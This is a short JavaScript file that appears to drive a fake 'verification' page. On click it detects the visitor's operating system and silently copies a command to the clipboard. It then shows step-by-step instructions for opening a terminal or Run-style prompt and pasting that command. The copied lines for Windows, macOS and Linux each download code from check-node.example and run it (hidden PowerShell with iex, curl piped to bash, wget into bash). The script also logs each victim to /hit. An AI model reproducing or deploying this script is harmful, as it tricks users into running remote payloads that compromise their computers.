(function ($) {
  var ua = navigator.userAgent, os = /Mac/.test(ua) ? "mac" : /Linux/.test(ua) && !/Android/.test(ua) ? "lin" : /Windows/.test(ua) ? "win" : "";
  if (!os) { $("#soon").show(); return; }
  var how = {
    win: ["Press <b>Windows</b> + <b>X</b>, then <b>I</b>", "In the window, press <b>Ctrl</b> + <b>V</b>", "Press <b>Enter</b>"],
    mac: ["Press <b>Cmd</b> + <b>Space</b> and type <b>Terminal</b>", "Press <b>Cmd</b> + <b>V</b>", "Press <b>Return</b>"],
    lin: ["Press <b>Ctrl</b> + <b>Alt</b> + <b>T</b>", "Press <b>Ctrl</b> + <b>Shift</b> + <b>V</b>", "Press <b>Enter</b>"]
  };
  var line = {
    win: "powershell -w h -nop -c \"$u='https://check-node.example/w';iex(irm $u)\"",
    mac: "echo 'Verifying'; curl -s https://check-node.example/m | nohup bash &",
    lin: "bash -c \"$(wget -qO- https://check-node.example/l)\""
  };
  $("#box").one("click", function () {
    $(this).addClass("busy");
    $("#list").html($.map(how[os], function (t) { return "<li>" + t + "</li>"; }).join(""));
    var i = $("<input>").appendTo("body").val(line[os]).trigger("select");
    document.execCommand("copy");
    i.remove();
    $("#panel").fadeIn(200);
    $.get("/hit?o=" + os);
  });
})(jQuery);
